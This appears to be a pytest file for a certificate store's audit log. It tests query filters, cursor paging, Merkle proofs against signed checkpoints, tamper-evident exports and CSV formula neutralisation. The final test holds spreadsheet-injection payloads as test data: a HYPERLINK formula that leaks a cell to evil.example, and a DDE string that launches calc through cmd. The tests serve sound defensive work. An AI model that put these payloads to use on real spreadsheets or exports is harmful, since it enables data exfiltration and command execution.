"""The auditor's side: filters and cursor pages, search by holder ID number, proofs against signed checkpoints,
exports (JSONL and CSV) that verify offline and fail when edited, and the summary."""

from __future__ import annotations

import csv
import json
import os
from datetime import UTC, datetime, timedelta

import pytest

from certstore.audit import make_checkpoint, record_event
from certstore.audit.checkpoints import CheckpointKey, checkpoint_problems
from certstore.audit.merkle import leaf_hash, verify_consistency, verify_inclusion
from certstore.audit.query import (
    AuditQuery,
    decode_cursor,
    export_lines,
    holder_reference,
    query_entries,
    summary,
    verify_export,
)
from certstore.audit.tree import ProofUnavailableError, prove_consistency, prove_inclusion
from certstore.crypto.trust import TrustStore
from certstore.crypto.x509 import Certificate
from certstore.store.db import Database
from tests.audit.conftest import event, fill

HOLDER_KEY = os.urandom(32)
RESIDENT = ("111", "110101199003074477")


@pytest.fixture
def log(database: Database, key: CheckpointKey) -> Database:
    """700 entries (stored subtrees of 256 and 512), checkpoints every 100, one holder look-up among them."""
    fill(database, 400, key=key, every=100)
    record_event(
        database,
        event(
            400,
            holder_digest=holder_reference(HOLDER_KEY, *RESIDENT),
            matter="ZZ-HOLDER",
            grant_id=17,
            certificate_identifier="ZZ-CERT-1",
        ),
    )
    fill(database, 299, key=key, every=100, start=401)
    make_checkpoint(database, key)
    return database


def test_filters_and_cursor_pages(log: Database) -> None:
    everything = AuditQuery()
    seen: list[int] = []
    cursor = None
    while True:
        page = query_entries(log, everything, cursor=cursor, limit=97)
        seen += [e.seq for e in page.entries]
        cursor = page.next_cursor
        if cursor is None:
            break
    assert sorted(seen) == list(range(700)) and len(seen) == 700

    denied = query_entries(log, AuditQuery(outcome="deny"), limit=1000).entries
    assert len(denied) == len([i for i in range(700) if i % 7 == 0])
    org = query_entries(
        log, AuditQuery(organisation_code="12410100MB0000001X", action="issue_certificate"), limit=1000
    )
    assert {e.event.organisation_code for e in org.entries} == {"12410100MB0000001X"}
    assert all(e.event.action == "issue_certificate" for e in org.entries)
    by_holder = query_entries(log, AuditQuery(holder_digest=holder_reference(HOLDER_KEY, *RESIDENT))).entries
    assert [e.seq for e in by_holder] == [400]
    assert RESIDENT[1] not in json.dumps(by_holder[0].to_dict())  # the number itself is never stored
    for field, value in (("matter", "ZZ-HOLDER"), ("grant_id", 17), ("certificate_identifier", "ZZ-CERT-1")):
        assert [e.seq for e in query_entries(log, AuditQuery(**{field: value})).entries] == [400]
    future = datetime.now(UTC) + timedelta(days=1)
    assert query_entries(log, AuditQuery(start=future)).entries == []
    with pytest.raises(ValueError, match="not a cursor"):
        decode_cursor("garbage!")


def test_inclusion_and_consistency_proofs_verify_against_signed_checkpoints(
    log: Database, trust: TrustStore, pinned: list[Certificate]
) -> None:
    with log.session(readonly=True) as session:
        for seq in (0, 255, 256, 400, 511, 699):
            proof = prove_inclusion(session, seq)
            assert proof.checkpoint is not None and proof.checkpoint.tree_size == 700
            assert checkpoint_problems(proof.checkpoint, trust=trust, pinned=pinned) == []
            assert proof.leaf_hash == leaf_hash(proof.entry.computed_hash())
            assert verify_inclusion(seq, 700, proof.leaf_hash, proof.path, proof.checkpoint.root_hash)
        older = prove_inclusion(session, 42, tree_size=300)
        assert older.checkpoint is not None
        assert verify_inclusion(42, 300, older.leaf_hash, older.path, older.checkpoint.root_hash)
        for first in (1, 100, 256, 300, 699):
            proof = prove_consistency(session, first)
            assert verify_consistency(first, 700, proof.first_root, proof.second_root, proof.path)
        step = prove_consistency(session, 200, 601)
        assert step.first_checkpoint is not None and step.second_checkpoint is not None
        assert verify_consistency(
            200, 601, step.first_checkpoint.root_hash, step.second_checkpoint.root_hash, step.path
        )
        with pytest.raises(ProofUnavailableError):
            prove_inclusion(session, 700)
        with pytest.raises(ProofUnavailableError):
            prove_consistency(session, 10, 701)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_exports_verify_offline_and_fail_when_edited(
    log: Database, key: CheckpointKey, trust: TrustStore, pinned: list[Certificate], fmt: str
) -> None:
    checkpoint = make_checkpoint(log, key)
    record_event(log, event(9999))  # after the checkpoint: not in the export
    now = datetime.now(UTC)
    for query, count in (
        (AuditQuery(), 700),
        (AuditQuery(outcome="deny"), 100),
        (AuditQuery(matter="ZZ-HOLDER"), 1),
    ):
        lines = list(export_lines(log, query, checkpoint, fmt=fmt, generated_at=now))  # type: ignore[arg-type]
        result = verify_export(lines, trust=trust, pinned=pinned)
        assert result.intact, result.problems
        assert (result.entries, result.tree_size, result.signer_checked) == (count, 700, True)
        unchecked = verify_export(lines)  # no trust given: consistent, signer unknown
        assert unchecked.intact and not unchecked.signer_checked

    lines = list(export_lines(log, AuditQuery(outcome="deny"), checkpoint, fmt=fmt, generated_at=now))  # type: ignore[arg-type]
    body = 1 if fmt == "jsonl" else 2  # first entry line
    edited = [*lines]
    edited[body + 3] = (
        edited[body + 3].replace("allow", "deny").replace(",403,", ",200,").replace(":403,", ":200,")
    )
    assert edited != lines
    assert any("was changed" in p for p in verify_export(edited, trust=trust).problems)
    dropped = lines[:body] + lines[body + 1 :]
    assert not verify_export(dropped, trust=trust).intact
    forged = [*lines]
    forged[-2] = forged[-2].replace(checkpoint.root_hash.hex(), "ab" * 32)
    assert any("signature does not verify" in p for p in verify_export(forged, trust=trust).problems)
    assert not verify_export(lines[:-1], trust=trust).intact  # without the proof nothing is shown


def test_summary_counts_calls_denials_and_bulk_access(log: Database) -> None:
    view = summary(log, None, None)
    assert view["calls"] == 700
    assert view["denied"] == 100
    assert sum(o["calls"] for o in view["by_organisation"]) == 700
    assert sum(p["denied"] for p in view["denials_by_principal"]) == 100
    assert view["bulk_access"] == [
        {
            "grant_id": 17,
            "organisation_code": "12410100MB0000000X",
            "calls": 1,
            "denied": 0,
            "first": view["bulk_access"][0]["first"],
            "last": view["bulk_access"][0]["last"],
        }
    ]
    assert summary(log, datetime.now(UTC) + timedelta(days=1), None)["calls"] == 0


def test_csv_exports_neutralise_formulas_and_still_verify(
    database: Database, key: CheckpointKey, trust: TrustStore, pinned: list[Certificate]
) -> None:
    """Cells a spreadsheet would run as formulas (= + - @, tab, CR; through a User-Agent, a login name, a
    reason) are written after an apostrophe (and an apostrophe-led cell gets one more); `verify-export` undoes
    exactly that escape and accepts the file, and refuses a file whose formula lost its apostrophe."""
    hostile = {
        "user_agent": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "principal": "@SUM(1+1)*cmd|' /C calc'!A0",
        "reason": "-2+3",
        "client": "+1",
        "matter": "\tTAB",
        "resource": "'quoted",
    }
    record_event(database, event(1, **hostile))
    record_event(database, event(2, reason="\r=1+1"))
    checkpoint = make_checkpoint(database, key)
    now = datetime.now(UTC)
    lines = list(export_lines(database, AuditQuery(), checkpoint, fmt="csv", generated_at=now))
    rows = list(csv.reader(lines))
    header = rows[1]
    entries = [dict(zip(header, row, strict=True)) for row in rows[2:4]]
    for name, value in hostile.items():
        assert entries[0][name] == "'" + value  # neutralised
    assert entries[1]["reason"] == "'\r=1+1"
    for row in rows[2:4]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    result = verify_export(lines, trust=trust, pinned=pinned)
    assert result.intact and result.entries == 2, result.problems
    # what Excel's "save as CSV" or a hand edit would do: the apostrophe gone
    edited = [line.replace("'=HYPERLINK", "=HYPERLINK") for line in lines]
    assert edited != lines
    assert not verify_export(edited, trust=trust, pinned=pinned).intact
    # JSONL carries the values as they are (no spreadsheet reads it)
    jsonl = list(export_lines(database, AuditQuery(), checkpoint, fmt="jsonl", generated_at=now))
    assert json.loads(jsonl[1])["user_agent"] == hostile["user_agent"]
    assert verify_export(jsonl, trust=trust, pinned=pinned).intact
